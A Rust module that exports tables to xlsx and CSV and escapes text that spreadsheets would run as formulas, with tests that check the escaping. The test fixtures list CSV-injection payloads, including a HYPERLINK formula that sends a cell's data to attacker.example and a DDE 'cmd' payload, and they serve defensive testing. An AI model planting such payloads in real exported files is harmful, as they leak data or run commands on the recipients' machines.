//! Writing a [`Table`] as an xlsx or CSV file.

use rust_xlsxwriter::{Format as Style, Workbook, XlsxError};

use super::{Cell, Format, SheetError, Table, quoted};

/// The file of `table` in `format`. Dates are date cells in xlsx and `YYYY-MM-DD` in CSV; text
/// stays text (phone numbers keep their digits).
pub fn write(table: &Table, format: Format) -> Result<Vec<u8>, SheetError> {
    match format {
        Format::Xlsx => write_xlsx(table).map_err(|e| SheetError::Write(e.to_string())),
        Format::Csv => write_csv(table),
    }
}

fn write_xlsx(table: &Table) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name(table.name)?;
    let bold = Style::new().set_bold();
    let day = Style::new().set_num_format("yyyy-mm-dd");
    let instant = Style::new().set_num_format("yyyy-mm-dd hh:mm:ss");
    for (column, header) in table.headers.iter().enumerate() {
        sheet.write_string_with_format(0, column as u16, *header, &bold)?;
    }
    for (i, cells) in table.rows.iter().enumerate() {
        let row = i as u32 + 1;
        for (column, cell) in cells.iter().enumerate() {
            let column = column as u16;
            match cell {
                Cell::Empty => {}
                Cell::Text(text) => {
                    // A string cell is never evaluated; only an apostrophe the import would
                    // strip is doubled.
                    sheet.write_string(row, column, quoted(text, false))?;
                }
                Cell::Number(n) => {
                    sheet.write_number(row, column, *n)?;
                }
                Cell::Bool(b) => {
                    sheet.write_boolean(row, column, *b)?;
                }
                Cell::Date(date) => {
                    sheet.write_datetime_with_format(row, column, date, &day)?;
                }
                Cell::DateTime(at) => {
                    sheet.write_datetime_with_format(row, column, at, &instant)?;
                }
            }
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    sheet.autofit();
    workbook.save_to_buffer()
}

/// UTF-8 with a byte-order mark, so that Excel reads the names' accents right. A text field a
/// spreadsheet would run as a formula starts with an apostrophe (see [`quoted`]).
fn write_csv(table: &Table) -> Result<Vec<u8>, SheetError> {
    let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    let fail = |e: csv::Error| SheetError::Write(e.to_string());
    writer.write_record(&table.headers).map_err(fail)?;
    for cells in &table.rows {
        // Every record as wide as the header: a short row ends in blank fields.
        let fields = cells
            .iter()
            .map(csv_field)
            .chain(std::iter::repeat(String::new()));
        writer
            .write_record(fields.take(table.headers.len()))
            .map_err(fail)?;
    }
    writer
        .into_inner()
        .map_err(|e| SheetError::Write(e.to_string()))
}

/// A cell as a CSV field: text as stored (quoted when it could run), anything else as read.
fn csv_field(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => quoted(text, true).into_owned(),
        other => other.text(),
    }
}

#[cfg(test)]
mod tests {
    use chrono::NaiveDate;

    use super::*;
    use crate::sheet::read;

    fn table() -> Table {
        let day = NaiveDate::from_ymd_opt(2026, 1, 15).unwrap();
        Table {
            name: "Data",
            headers: vec!["Nama", "No HP", "Next Service"],
            rows: vec![
                vec![
                    Cell::Text("Budi, \"VIP\"".into()),
                    Cell::Text("0812".into()),
                    Cell::Date(day),
                ],
                vec![Cell::Text("Siti".into()), Cell::Empty, Cell::Empty],
            ],
        }
    }

    #[test]
    fn what_is_written_reads_back() {
        for format in [Format::Xlsx, Format::Csv] {
            let bytes = write(&table(), format).unwrap();
            let sheet = read(format, &bytes, None).unwrap();
            let header: Vec<String> = sheet.header.cells.iter().map(Cell::text).collect();
            assert_eq!(header, ["Nama", "No HP", "Next Service"], "{format:?}");
            assert_eq!(sheet.rows[0].cell(0).text(), "Budi, \"VIP\"");
            assert_eq!(
                sheet.rows[0].cell(1),
                &Cell::Text("0812".into()),
                "{format:?}"
            );
            assert_eq!(
                sheet.rows[0].cell(2).date(),
                Ok(NaiveDate::from_ymd_opt(2026, 1, 15)),
                "{format:?}"
            );
            assert_eq!(sheet.rows[1].number, 3);
        }
        let xlsx = read(Format::Xlsx, &write(&table(), Format::Xlsx).unwrap(), None).unwrap();
        assert!(
            matches!(xlsx.rows[0].cell(2), Cell::Date(_)),
            "a real date cell"
        );
    }

    /// The payloads of OWASP's CSV injection advice, as names and notes workshops could be sent.
    const FORMULAS: [&str; 5] = [
        "=HYPERLINK(\"https://attacker.example/?d=\"&C2,\"Klik\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
    ];

    fn formula_table() -> Table {
        Table {
            name: "Data",
            headers: vec!["Nama", "Jumlah"],
            rows: FORMULAS
                .iter()
                .map(|text| vec![Cell::Text(text.to_string()), Cell::Number(-2.0)])
                .collect(),
        }
    }

    #[test]
    fn csv_text_that_could_run_starts_with_an_apostrophe() {
        let bytes = write(&formula_table(), Format::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), FORMULAS.len());
        for (record, text) in records.iter().zip(FORMULAS) {
            assert_eq!(&record[0], format!("'{text}"));
            // A number stays a number: `-2` is no formula and keeps its sign.
            assert_eq!(&record[1], "-2");
        }
        let sheet = read(Format::Csv, &bytes, None).unwrap();
        let names: Vec<String> = sheet.rows.iter().map(|r| r.cell(0).text()).collect();
        assert_eq!(names, FORMULAS);
    }

    #[test]
    fn xlsx_text_that_could_run_is_a_string_cell_as_written() {
        let bytes = write(&formula_table(), Format::Xlsx).unwrap();
        use calamine::Reader;
        let mut workbook: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        let range = workbook.worksheet_range("Data").unwrap();
        let formulas = workbook.worksheet_formula("Data").unwrap();
        assert!(formulas.used_cells().next().is_none(), "no formula cell");
        for (i, text) in FORMULAS.iter().enumerate() {
            let cell = range.get_value((i as u32 + 1, 0));
            assert_eq!(cell, Some(&calamine::Data::String(text.to_string())));
        }
    }
}
